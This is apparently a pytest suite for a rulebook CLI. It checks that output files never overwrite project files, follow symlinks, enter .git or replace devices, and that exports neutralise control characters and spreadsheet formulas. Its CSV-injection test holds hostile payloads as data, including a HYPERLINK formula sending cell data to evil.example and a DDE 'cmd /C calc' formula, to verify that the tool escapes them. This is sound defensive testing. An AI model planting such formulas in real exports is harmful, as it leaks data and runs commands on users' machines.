"""Where a report, a baseline or an export may go: a new file, or one of ours, never anything else.

A CI job runs ``rulebook lint -o NAME`` in a checkout a pull request wrote: whatever NAME is there (a
licence, a Makefile, an image, Git's own files, a link to the runner's files), it is replaced only if
this tool wrote it, and never through a link or inside ``.git``. Each case asserts the exit status, the
message, and that every file is as it was, byte for byte.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest
from lxml import etree

from rulebook.cli import main

from .scratch import configure, nothing_written_outside, refused, run, run_guarded, scratch, source  # noqa: F401 (fixtures)
from .test_report_files import BOOK

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
KEPT = {
    "LICENSE": b"Permission is hereby granted, free of charge, to any person obtaining a copy\n",
    ".gitignore": b"site/\n.venv/\n",
    "Makefile": b"all:\n\trulebook build\n",
    "package.json": b'{"name": "rules", "private": true}\n',
    "rules/images/x.png": PNG,
}
"""Files a project keeps, none of them a report: each must survive every command's ``-o``."""
TERMS = '[march]\npreferred = "marcher"\n'
WRITERS = {
    "lint text": ("lint", "--format", "text"),
    "lint json": ("lint", "--format", "json"),
    "lint pretty json": ("lint", "--format", "json", "--pretty"),
    "lint github": ("lint", "--format", "github"),
    "lint sarif": ("lint", "--format", "sarif"),
    "graph json": ("graph", "--format", "json"),
    "graph dot": ("graph", "--format", "dot"),
    "graph graphml": ("graph", "--format", "graphml"),
    "terms tbx": ("terms", "export", "terms.toml", "--language", "fr", "--format", "tbx"),
    "terms csv": ("terms", "export", "terms.toml", "--language", "fr", "--format", "csv"),
}
"""Every command and format that writes a file with ``-o``."""
NOT_OURS = "exists and is not a report this tool wrote: choose another name (a report replaces only an earlier report)"


def _project(folder: Path) -> None:
    """The book (one dangling reference: the lint finds an error), a terminology, and the files a project keeps."""
    source(folder, "book.xml", BOOK)
    (folder / "terms.toml").write_text(TERMS, encoding="utf-8")
    for name, content in KEPT.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)


@pytest.mark.parametrize("target", sorted(KEPT))
@pytest.mark.parametrize("writer", ["lint text", "lint sarif", "graph dot", "terms csv", "terms tbx"])
def test_a_report_never_replaces_a_file_a_project_keeps(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
    target: str,
) -> None:
    _project(scratch)
    outcome = refused(capsys, scratch, *WRITERS[writer], "-o", target)
    assert outcome.err == f"rulebook: error: `{target}` {NOT_OURS}\n"
    assert (scratch / target).read_bytes() == KEPT[target]


NAMING_A_FILE = {
    **{name: (*argv, "-o") for name, argv in WRITERS.items()},
    "baseline": ("lint", "--write-baseline"),
    "converted source": ("convert", "book.xml", "-o"),
}
"""Every command and option that names a file to write."""


@pytest.mark.parametrize("writer", NAMING_A_FILE)
def test_a_file_named_with_a_trailing_separator_is_refused(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
) -> None:
    """``-o reports/`` names a folder: it wrote a file called ``reports``."""
    _project(scratch)
    with nothing_written_outside(scratch), pytest.raises(SystemExit) as exit_info:
        main([*NAMING_A_FILE[writer], "reports/"])
    assert exit_info.value.code == 2
    option = "--output/-o" if NAMING_A_FILE[writer][-1] == "-o" else "--write-baseline"
    said = f"error: argument {option}: `reports/` names a folder: name the file to write\n"
    assert capsys.readouterr().err.endswith(said)
    assert not (scratch / "reports").exists()


@pytest.mark.parametrize("writer", NAMING_A_FILE)
def test_an_empty_file_name_is_refused(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
) -> None:
    """``-o ''`` (a script's unset variable) said "cannot write `.`: it is a folder", and ``convert -o ''`` wrote
    its default file as if no ``-o`` were given."""
    _project(scratch)
    with nothing_written_outside(scratch), pytest.raises(SystemExit) as exit_info:
        main([*NAMING_A_FILE[writer], ""])
    assert exit_info.value.code == 2
    option = "--output/-o" if NAMING_A_FILE[writer][-1] == "-o" else "--write-baseline"
    assert capsys.readouterr().err.endswith(f"error: argument {option}: an empty name: name the file to write\n")


@pytest.mark.parametrize("writer", NAMING_A_FILE)
@pytest.mark.parametrize(
    "name", ["L" * 300 + "/x", "sub/" + "L" * 300, "d/" * 2100 + "x"], ids=["folder", "file", "path"]
)
def test_a_name_no_system_takes_is_refused_in_plain_words(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
    name: str,
) -> None:
    """A folder's name of 300 characters on the way, or a path past 4,096 bytes, was an internal error (`File name
    too long`), and a refused ``-o sub/LONG`` left the folder ``sub`` it had made (the eighteenth probe)."""
    _project(scratch)
    outcome = refused(capsys, scratch, *NAMING_A_FILE[writer], name)
    assert outcome.err.startswith("rulebook: error: cannot write `")
    assert "the longest" in outcome.err


@pytest.mark.parametrize("name", ["L" * 300, "L" * 300 + "/x", "d/" * 2100 + "x"], ids=["folder", "inside", "path"])
def test_init_of_a_name_no_system_takes_is_refused_in_plain_words(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    name: str,
) -> None:
    outcome = refused(capsys, scratch, "init", name)
    assert outcome.err.endswith(": nothing was made\n") and "the longest" in outcome.err


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_a_dash_is_standard_output_for_every_report(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
) -> None:
    """``-o -`` is standard output, as for ``convert`` and every Unix tool: it wrote a file called ``-`` in the
    project, printing nothing, with exit 0."""
    _project(scratch)
    printed = run(capsys, *WRITERS[writer])
    with nothing_written_outside(scratch):
        outcome = run(capsys, *WRITERS[writer], "-o", "-")
    assert (outcome.code, outcome.out) == (printed.code, printed.out)
    assert outcome.out
    assert not (scratch / "-").exists()


def test_a_baseline_is_never_written_to_a_dash(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A baseline is a file the lint reads back: ``--write-baseline -`` wrote one called ``-``."""
    _project(scratch)
    with nothing_written_outside(scratch), pytest.raises(SystemExit) as exit_info:
        main(["lint", "--write-baseline", "-"])
    assert exit_info.value.code == 2
    assert capsys.readouterr().err.endswith(
        "error: argument --write-baseline: `-` names no file: name the file to write\n"
    )
    assert not (scratch / "-").exists()


@pytest.mark.parametrize("target", [*sorted(KEPT), "terms.toml"])
def test_a_baseline_never_replaces_a_file_a_project_keeps(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    target: str,
) -> None:
    _project(scratch)
    outcome = refused(capsys, scratch, "lint", "--write-baseline", target)
    assert outcome.err == (
        f"rulebook: error: `{target}` exists and is not a baseline this tool wrote: "
        "choose another name (a baseline replaces only an earlier baseline)\n"
    )


@pytest.mark.parametrize(
    "argv",
    [
        ("lint", "-o", ".git/config"),
        ("lint", "--format", "sarif", "-o", ".git/HEAD"),
        ("graph", "-o", ".git/hooks/pre-commit"),
        ("terms", "export", "terms.toml", "--language", "fr", "-o", ".git/info/exclude"),
        ("lint", "--write-baseline", ".git/baseline.json"),
        ("lint", "-o", "rules/../.git/config"),
        ("lint", "-o", "vendor/theme/.git/config"),
        ("lint", "-o", ".GIT/config"),  # the same folder on macOS
    ],
)
def test_nothing_is_ever_written_inside_git(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    argv: tuple[str, ...],
) -> None:
    _project(scratch)
    for git in (scratch / ".git", scratch / "vendor" / "theme" / ".git"):
        (git / "hooks").mkdir(parents=True)
        (git / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
        (git / "config").write_text("[core]\n\trepositoryformatversion = 0\n", encoding="utf-8")
    outcome = refused(capsys, scratch, *argv)
    shown = os.path.normpath(argv[-1])
    assert outcome.err == f"rulebook: error: cannot write `{shown}`: it is inside `.git`, Git's own folder\n"


@pytest.mark.parametrize(
    "argv",
    [
        ("lint", "-o", "site/report.txt"),
        ("lint", "--format", "sarif", "-o", "site/reports/lint.sarif"),
        ("lint", "--write-baseline", "site/baseline.json"),
        ("graph", "-o", "site/graph.json"),
        ("terms", "export", "terms.toml", "--language", "fr", "-o", "site/terms.csv"),
        ("convert", "book.xml", "-o", "site/book.md"),
        ("lint", "-o", "rules/../site/report.txt"),
    ],
)
def test_nothing_is_written_into_a_site_this_tool_built(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    argv: tuple[str, ...],
) -> None:
    """A report in the published site was deleted by the next build without a word, and published by a build of some
    books (which keeps the site's other files) or one of ``--data-only``: refused, as every foreign place is."""
    _project(scratch)
    assert run(capsys, "build", "-q").code == 0
    outcome = refused(capsys, scratch, *argv)
    shown = os.path.normpath(argv[-1])
    assert outcome.err == (
        f"rulebook: error: cannot write `{shown}`: it is inside `site`, a site this tool built, which its next build "
        "replaces whole (and a build of some books publishes); choose a place outside it\n"
    )


@pytest.mark.parametrize(
    ("argv", "entry"),
    [
        (("lint", "-o", ".site.lock"), ".site.lock"),
        (("lint", "-o", ".site.rulebook/report.txt"), ".site.rulebook"),
        (("lint", "--write-baseline", ".site.lock"), ".site.lock"),
        (("graph", "-o", ".out.rulebook"), ".out.rulebook"),
        (("terms", "export", "terms.toml", "--language", "fr", "-o", "www/.site.rulebook/terms.csv"), ".site.rulebook"),
        (("convert", "book.xml", "-o", ".site.lock"), ".site.lock"),
        (("lint", "-o", "notes/.rulebook-site"), ".rulebook-site"),
        (("graph", "-o", "notes/.rulebook-site"), ".rulebook-site"),
        (("lint", "--write-baseline", "notes/.rulebook-site"), ".rulebook-site"),
        (("convert", "book.xml", "-o", "notes/.rulebook-site"), ".rulebook-site"),
    ],
)
def test_nothing_is_written_where_a_build_keeps_its_lock_or_work_folder(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    argv: tuple[str, ...],
    entry: str,
) -> None:
    """``lint -o .site.lock`` and ``lint -o .site.rulebook/report.txt`` wrote there with exit 0, and every build
    after was refused (a lock holding a report, a work folder it did not make) until the file was deleted; ``lint -o
    notes/.rulebook-site`` made ``build -o notes`` take the notes for a site of its own and delete them: refused by
    name, as a build's own lock, work folder and site marker are named beside any output."""
    _project(scratch)
    (scratch / "notes").mkdir()
    (scratch / "notes" / "mine.txt").write_text("precious\n", encoding="utf-8")
    outcome = refused(capsys, scratch, *argv)
    assert outcome.err == (
        f"rulebook: error: cannot write `{os.path.normpath(argv[-1])}`: `{entry}` is a name a build keeps for its own "
        "lock, work folder or site marker, and the next build would take what it found there for its own; choose "
        "another name\n"
    )
    assert not any(p.name.endswith((".lock", ".rulebook", ".rulebook-site")) for p in scratch.rglob("*"))
    assert run(capsys, "build", "-q", "-o", "notes").code == 2  # not a site of ours: kept
    assert run(capsys, "build", "-q").code == 0


def test_convert_writes_a_new_file_and_says_so_when_one_is_there(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A converted source may have been edited since it was written: convert never writes over one, nor over anything
    else (it said "is not a new file this tool wrote ... a new file replaces only an earlier new file" of a file it
    wrote, which it never replaces)."""
    _project(scratch)
    assert run(capsys, "convert", "book.xml", "-o", "book.md").code == 0
    (scratch / "notes.md").write_text("my notes\n", encoding="utf-8")
    with nothing_written_outside(scratch):
        for target in ("book.md", "notes.md"):
            outcome = run(capsys, "convert", "book.xml", "-o", target)
            assert (outcome.code, outcome.err) == (
                2,
                f"rulebook: error: `{target}` exists: a converted source is written as a new file, never over one; "
                "choose another name\n",
            )


def test_init_is_refused_inside_a_site_this_tool_built(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    _project(scratch)
    assert run(capsys, "build", "-q").code == 0
    monkeypatch.chdir(scratch / "site")
    outcome = refused(capsys, scratch, "init", "--title", "Game")
    assert "is inside `site` of the project around it" in outcome.err, outcome.err
    assert "where its build publishes the site: its build would take the new files for its own" in outcome.err


def test_a_report_is_never_written_through_a_link(
    scratch: Path,  # noqa: F811
    tmp_path_factory: pytest.TempPathFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A pull request commits links where CI writes its reports: to a file of the project, out of it, to nowhere yet."""
    _project(scratch)
    outside = tmp_path_factory.mktemp("runner")
    (outside / "earlier.txt").write_text("All checks passed (1 file).\n", encoding="utf-8")  # looks like ours
    (scratch / "to-licence.txt").symlink_to("LICENSE")
    (scratch / "to-runner.txt").symlink_to(outside / "earlier.txt")
    (scratch / "to-nowhere.txt").symlink_to(outside / "new.txt")
    (scratch / "reports").symlink_to(outside)
    with nothing_written_outside(scratch), nothing_written_outside(outside):
        for name in ("to-licence.txt", "to-runner.txt", "to-nowhere.txt"):
            outcome = run(capsys, "lint", "-o", name)
            assert outcome.code == 2
            assert (
                outcome.err == f"rulebook: error: cannot write `{name}`: it is a symbolic link; name the file itself\n"
            )
        outcome = run(capsys, "graph", "-o", "reports/graph.json")
        assert outcome.code == 2
        assert outcome.err == (
            "rulebook: error: cannot write `reports/graph.json`: `reports` on the way is a symbolic link; "
            "name a folder of the project itself\n"
        )
        outcome = run(capsys, "lint", "--write-baseline", "reports/baseline.json")
        assert outcome.code == 2 and "`reports` on the way is a symbolic link" in outcome.err


def test_a_link_of_ones_own_to_a_stream_is_written_into(
    scratch: Path,  # noqa: F811
    tmp_path_factory: pytest.TempPathFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Outside the project, a link to a device (``/dev/stdout`` is one) is the user's own: written into."""
    _project(scratch)
    outside = tmp_path_factory.mktemp("elsewhere")
    (outside / "null").symlink_to(os.devnull)
    outcome = run(capsys, "lint", "-o", str(outside / "null"))
    assert outcome.code == 1 and outcome.err == ""
    assert (outside / "null").is_symlink() and stat.S_ISCHR((outside / "null").stat().st_mode)


def test_each_report_replaces_an_earlier_report_of_any_format(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Each format is recognised as ours: it replaces itself, and the next format replaces it (text after CSV)."""
    _project(scratch)
    report = scratch / "report.out"
    for writer in [*WRITERS, "lint text"]:
        for _ in range(2):
            outcome = run(capsys, *WRITERS[writer], "-o", "report.out")
            assert outcome.code == (1 if writer.startswith("lint") else 0), (writer, outcome.err)
        printed = run(capsys, *WRITERS[writer]).out
        assert report.read_text(encoding="utf-8") == printed, writer


def test_a_baseline_replaces_only_a_baseline_and_a_report_only_a_report(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    _project(scratch)
    assert run(capsys, "lint", "--write-baseline", "baseline.json").code == 0
    assert run(capsys, "lint", "--format", "json", "-o", "report.json").code == 1
    kept = (scratch / "baseline.json").read_bytes(), (scratch / "report.json").read_bytes()
    outcome = run(capsys, "lint", "--format", "json", "-o", "baseline.json")
    assert outcome.code == 2 and outcome.err == f"rulebook: error: `baseline.json` {NOT_OURS}\n"
    outcome = run(capsys, "lint", "--write-baseline", "report.json")
    assert outcome.code == 2 and "`report.json` exists and is not a baseline this tool wrote" in outcome.err
    assert ((scratch / "baseline.json").read_bytes(), (scratch / "report.json").read_bytes()) == kept
    (scratch / "empty.json").touch()  # nothing to lose: an empty file is replaced
    assert run(capsys, "lint", "--write-baseline", "empty.json").code == 0
    assert '"charge"' in (scratch / "empty.json").read_text(encoding="utf-8")


def test_init_keeps_a_dangling_link_where_it_would_write_a_companion(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A committed `.pre-commit-config.yaml` that is a link to nothing: init said "cannot write ...: file exists;
    nothing was made" (the link was not seen as there); it is kept as any file there is, never written through, and
    a dangling link where the book goes is a book that exists already."""
    (scratch / "game").mkdir()
    (scratch / "game" / ".pre-commit-config.yaml").symlink_to(scratch / "nowhere")
    outcome = run(capsys, "init", "game")
    assert outcome.code == 0, outcome.err
    assert (scratch / "game" / "rules" / "book.xml").is_file()
    assert os.readlink(scratch / "game" / ".pre-commit-config.yaml") == str(scratch / "nowhere")
    assert not (scratch / "nowhere").exists()
    (scratch / "other" / "rules").mkdir(parents=True)
    (scratch / "other" / "rules" / "book.xml").symlink_to(scratch / "nowhere")
    outcome = run(capsys, "init", "other")
    assert outcome.code == 2
    assert "other/rules/book.xml` exists already: nothing was made" in outcome.err, outcome.err
    assert sorted(p.name for p in (scratch / "other").rglob("*")) == ["book.xml", "rules"]


def test_init_says_a_configuration_name_taken_by_no_file(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A named pipe or a dangling link called `rulebook.toml` was said to "already configure a rulebook project"."""
    (scratch / "piped").mkdir()
    os.mkfifo(scratch / "piped" / "rulebook.toml")
    (scratch / "dangling").mkdir()
    (scratch / "dangling" / "rulebook.toml").symlink_to(scratch / "nowhere")
    for folder in ("piped", "dangling"):
        outcome = refused(capsys, scratch, "init", folder)
        assert outcome.err.endswith(
            f"{folder}/rulebook.toml` is there already, and is no configuration: nothing was made\n"
        )


def test_init_never_writes_through_a_link_or_into_git(
    scratch: Path,  # noqa: F811
    tmp_path_factory: pytest.TempPathFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    outside = tmp_path_factory.mktemp("elsewhere")
    (scratch / "game").mkdir()
    (scratch / "game" / "rules").symlink_to(outside)
    (scratch / ".git").mkdir()
    with nothing_written_outside(scratch), nothing_written_outside(outside):
        outcome = run(capsys, "init", "game")
        assert outcome.code == 2
        assert outcome.err == (
            "rulebook: error: cannot write `rules/book.xml`: `rules` on the way is a symbolic link; "
            "name a folder of the project itself\n"
        )
        outcome = run(capsys, "init", ".git")
        assert outcome.code == 2
        assert outcome.err == "rulebook: error: cannot write `rulebook.toml`: it is inside `.git`, Git's own folder\n"
    source(scratch, "book.xml", BOOK)
    (scratch / "rules").symlink_to(outside)
    with nothing_written_outside(scratch), nothing_written_outside(outside):
        outcome = run(capsys, "new-book", "campaign")
    assert outcome.code == 2 and "`rules` on the way is a symbolic link" in outcome.err


def test_a_csv_export_holds_no_formula(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A contributor's terms.toml cannot make a translator's spreadsheet run a formula (OWASP, CSV Injection)."""
    source(scratch, "book.xml", BOOK)
    (scratch / "terms.toml").write_text(
        '[march]\npreferred = "=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"click\\")"\n'
        'accepted = ["+1", "-1", "@SUM(A1)", "x;=1+1"]\nforbidden = ["=cmd|\' /C calc\'!A0"]\n',
        encoding="utf-8",
    )
    outcome = run(capsys, "terms", "export", "terms.toml", "--language", "fr", "--format", "csv")
    assert outcome.code == 0
    assert outcome.out == (
        '"term_id","en","fr","fr_accepted","fr_forbidden"\n'
        '"march","march","\'=HYPERLINK(""https://evil.example/?""&A1, ""click"")","\'+1|-1|@SUM(A1)|x;=1+1",'
        "\"'=cmd|' /C calc'!A0\"\n"
    )
    rows = list(csv.reader(io.StringIO(outcome.out)))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


@pytest.mark.parametrize(
    "blank", ["\\u00a0", "\\u3000", "\\u200b", "\\ufeff", " ", "\\u2007\\u200b ", "\\u034f", "\\u0301 ", "\\u3164"]
)
@pytest.mark.parametrize("start", ["=", "+", "@", "\\uff1d", "\\ufe66", "\\u2212", "\\u207c", "\\u208a"])
def test_a_csv_cell_with_blanks_before_its_formula_is_no_formula(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    blank: str,
    start: str,
) -> None:
    """A no-break, ideographic or zero-width space before `=` (or a full-width equals sign) kept the cell as written: a
    spreadsheet that trims it as it reads the cell runs the formula (the thirtieth probe); so did a combining mark
    (U+034F, the thirty-fifth) or a Hangul filler, which show nothing of their own."""
    source(scratch, "book.xml", BOOK)
    (scratch / "terms.toml").write_text(f'[march]\npreferred = "{blank}{start}HYPERLINK(1)"\n', encoding="utf-8")
    outcome = run(capsys, "terms", "export", "terms.toml", "--language", "fr", "--format", "csv")
    assert outcome.code == 0, outcome.err
    cells = list(csv.reader(io.StringIO(outcome.out)))[1]
    assert cells[2].startswith("'") and cells[2].endswith("HYPERLINK(1)"), cells


@pytest.mark.parametrize(
    ("terms", "said"),
    [
        ('[march]\npreferred = "mar\\u0001cher"\n', "`preferred` of `march` holds the control character U+0001"),
        (
            '[march]\npreferred = "marcher"\naccepted = ["\\tx"]\n',
            "`accepted` of `march` holds the control character U+0009",
        ),
        ('["mar\\u001bch"]\npreferred = "marcher"\n', "a term id holds the control character U+001B"),
        (
            '[march]\npreferred = "marcher"\nforbidden = ["\\r=1"]\n',
            "`forbidden` of `march` holds the control character U+000D",
        ),
    ],
)
def test_a_term_with_a_control_character_is_a_plain_error(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    terms: str,
    said: str,
) -> None:
    source(scratch, "book.xml", BOOK)
    (scratch / "terms.toml").write_text(terms, encoding="utf-8")
    for export in ("tbx", "csv"):
        with nothing_written_outside(scratch):
            outcome = run(
                capsys, "terms", "export", "terms.toml", "--language", "fr", "--format", export, "-o", "terms.out"
            )
        assert outcome.code == 2
        assert outcome.err == f"rulebook: error: terms.toml: {said}: a term is one line of text\n"


@pytest.mark.parametrize("language", ["../x", "fr\x1b[2J", 'fr"><x>', "", "FR"])
@pytest.mark.parametrize("export", ["tbx", "csv"])
def test_an_export_language_that_is_no_code_is_refused(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    language: str,
    export: str,
) -> None:
    """``--language`` named the export's columns and its TBX's language as given: ``../x`` was written into both,
    and ESC stopped the TBX with "internal error: ValueError" and reached the terminal raw in the CSV's header."""
    source(scratch, "book.xml", BOOK)
    (scratch / "terms.toml").write_text(TERMS, encoding="utf-8")
    with nothing_written_outside(scratch), pytest.raises(SystemExit) as exit_info:
        main(["terms", "export", "terms.toml", "--language", language, "--format", export])
    assert exit_info.value.code == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "error: argument --language: a language code such as `fr` or `pt-BR`, not `" in captured.err
    assert "\x1b" not in captured.err


def test_a_tbx_export_is_valid_xml_whatever_the_title(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    source(scratch, "book.xml", BOOK)
    configure(scratch, 'title = "Tiles\\u0001and\\u001bDice\\uffff"\n')
    (scratch / "terms.toml").write_text(TERMS, encoding="utf-8")
    outcome = run(capsys, "terms", "export", "terms.toml", "--language", "fr")
    assert outcome.code == 0
    tbx = etree.fromstring(outcome.out.encode("utf-8"))
    paragraph = tbx.find(".//{urn:iso:std:iso:30042:ed-2}p")
    assert paragraph is not None and paragraph.text == "Tiles\u2401and\u241bDice\ufffd: terminology, English-French"


@pytest.mark.parametrize("character", ["\x1b", "\x07", "\x0b", "\ufffe"])
def test_a_markdown_source_holding_what_xml_forbids_is_not_converted(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    character: str,
) -> None:
    """The dialect reads ESC, BEL or U+FFFE as text: ``convert --to xml`` wrote them raw, "Wrote book.xml" with exit
    0, a file no XML reader reads. Refused where the source holds it, nothing written."""
    source(scratch, "book.md", f"<!-- rulebook -->\n\n# Rules {{#rules}}\n\nA move{character} is a move.\n")
    with nothing_written_outside(scratch):
        outcome = run(capsys, "convert", "book.md", "-o", "book.xml")
    assert outcome == (
        2,
        "",
        f"rulebook: error: book.md:5:7: U+{ord(character):04X} cannot be written in XML, which forbids control "
        "characters and non-characters: remove it from the source\n",
    )


@pytest.mark.parametrize(
    ("front", "place"),
    [
        ('---\ntitle: "Moves\\e[31m"\n---\n\n', "book.md:2:8"),  # a YAML escape: the character is not in the text
        ("# Moves\x1b[31m\n\n", "book.md:1:8"),  # the title's heading
    ],
)
def test_a_markdown_title_holding_what_xml_forbids_is_refused_where_it_is_written(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    front: str,
    place: str,
) -> None:
    """A front matter's title written ``"Moves\\e[31m"`` holds ESC nowhere in the text: ``convert --to xml`` refused
    it without a place ("U+001B cannot be written in XML"); it names the title's value, where the lint reports it."""
    source(scratch, "book.md", f"{front}# Rules {{#rules}}\n\nA move.\n")
    lint = run(capsys, "lint", "--color", "never")
    assert f" --> {place}\n" in lint.out
    assert _refused_conversion(capsys, scratch) == (
        f"rulebook: error: {place}: U+001B cannot be written in XML, which forbids control characters and "
        "non-characters: remove it from the source\n"
    )


def test_a_configured_title_holding_what_xml_forbids_is_refused_naming_the_configuration(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The configuration's title, written into a converted source that gives none, named no file."""
    source(scratch, "book.md", "# Rules {#rules}\n\nA move.\n")
    (scratch / "rulebook.toml").write_text('sources = ["book.md"]\ntitle = "Moves\\u001b"\n', encoding="utf-8")
    assert _refused_conversion(capsys, scratch) == (
        "rulebook: error: rulebook.toml: the book's `title` holds U+001B, which XML forbids (control characters and "
        "non-characters): remove it from the configuration\n"
    )


def _refused_conversion(capsys: pytest.CaptureFixture[str], folder: Path) -> str:
    """``convert book.md --to xml`` refused (exit 2, nothing on standard output, nothing written): its message."""
    with nothing_written_outside(folder):
        outcome = run(capsys, "convert", "book.md", "--to", "xml", "-o", "book.xml")
    assert outcome[:2] == (2, "")
    return str(outcome[2])


def test_a_graphml_export_is_valid_xml_whatever_a_heading_holds(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A Markdown heading can hold a control character XML 1.0 forbids: the export shows it as its picture."""
    source(scratch, "book.md", "<!-- rulebook -->\n# 1 Rules\n\n## Mo\x01ve\n\nA *Mo\x01ve* is a move.\n")
    configure(scratch, "emphasis = true\n")
    outcome = run(capsys, "graph", "--format", "graphml")
    assert outcome.code == 0
    graph = etree.fromstring(outcome.out.encode("utf-8"))
    names = {data.text for data in graph.iter("{http://graphml.graphdrawing.org/xmlns}data")}
    assert "Mo\u2401ve" in names  # the section's title


STREAM_WRITERS = {
    "lint": ("lint", "-o"),
    "baseline": ("lint", "--write-baseline"),
    "graph": ("graph", "-o"),
    "terms csv": ("terms", "export", "terms.toml", "--language", "fr", "--format", "csv", "-o"),
    "convert": ("convert", "book.xml", "-o"),
}
"""A command of each kind that writes a file it is given: a report, a baseline, an export, a converted source."""


@pytest.mark.parametrize("writer", sorted(STREAM_WRITERS))
def test_a_pipe_is_written_into_and_stays_a_pipe(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
) -> None:
    """A pipe (as ``/dev/null`` is a device) is written into, never replaced by a file: ``convert -o /dev/null`` run
    as root renamed a file over ``/dev/null``."""
    import threading

    _project(scratch)
    pipe = scratch / "pipe"
    os.mkfifo(pipe)
    read: list[bytes] = []
    reader = threading.Thread(target=lambda: read.append(pipe.read_bytes()))
    reader.start()
    try:
        outcome = run(capsys, *STREAM_WRITERS[writer], "pipe")
    finally:
        reader.join(timeout=30)
    assert outcome.code in (0, 1)
    assert stat.S_ISFIFO(pipe.lstat().st_mode)
    assert read[0]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.parametrize("writer", sorted(STREAM_WRITERS))
def test_a_device_that_cannot_take_the_text_is_an_error_not_a_file_written(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
) -> None:
    """``convert -o /dev/full`` said "Wrote /dev/full" (exit 0), having renamed a file over the device as root."""
    _project(scratch)
    outcome = run(capsys, *STREAM_WRITERS[writer], "/dev/full")
    assert outcome == (2, "", "rulebook: error: cannot write `/dev/full`: no space left on device\n")
    assert stat.S_ISCHR(Path("/dev/full").lstat().st_mode)


@pytest.mark.parametrize("kind", ["socket", "block device"])
@pytest.mark.parametrize("writer", sorted(STREAM_WRITERS))
def test_a_socket_or_a_disk_is_refused_never_replaced(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
    kind: str,
) -> None:
    """A socket (``-o /run/docker.sock``) or a block device (``-o /dev/sda``, as root) was replaced by the report,
    renamed over it, with exit 0: only a file, a character device or a pipe is written."""
    import socket

    _project(scratch)
    target = scratch / "target"
    if kind == "socket":
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(target))
    else:
        try:
            os.mknod(target, 0o600 | stat.S_IFBLK, os.makedev(7, 200))  # a loop device's number, never opened
        except PermissionError:
            pytest.skip("making a device node needs root")
    what = "a socket" if kind == "socket" else "a block device (a disk)"
    with nothing_written_outside(scratch):
        outcome = run(capsys, *STREAM_WRITERS[writer], "target")
    assert outcome == (2, "", f"rulebook: error: cannot write `target`: it is {what}, not a file; name a file\n")


@pytest.mark.parametrize("writer", ["baseline", "convert"])
def test_a_name_with_control_characters_is_said_with_pictures(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    writer: str,
) -> None:
    """``--write-baseline`` said "Wrote N problems to NAME" and how to configure NAME, and ``convert`` "Wrote NAME",
    with the name's ESC and U+202E raw: every line on standard error, and these on standard output, show them as
    pictures."""
    _project(scratch)
    outcome = run(capsys, *STREAM_WRITERS[writer], "o\x1b[2Jut\u202e.txt")
    assert outcome.code == 0
    said = outcome.out + outcome.err
    assert "o␛[2Jut�.txt" in said
    assert "\x1b" not in said and "\u202e" not in said
    assert (scratch / "o\x1b[2Jut\u202e.txt").is_file()


def test_a_file_in_a_folder_no_file_can_be_made_in_is_a_plain_error(
    scratch: Path,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``convert -o /proc/self/x`` was an internal error (``FileNotFoundError`` making the temporary file)."""
    _project(scratch)
    outcome = run(capsys, "convert", "book.xml", "-o", "/proc/self/x")
    assert outcome == (2, "", "rulebook: error: cannot write `/proc/self/x`: no such file or directory\n")


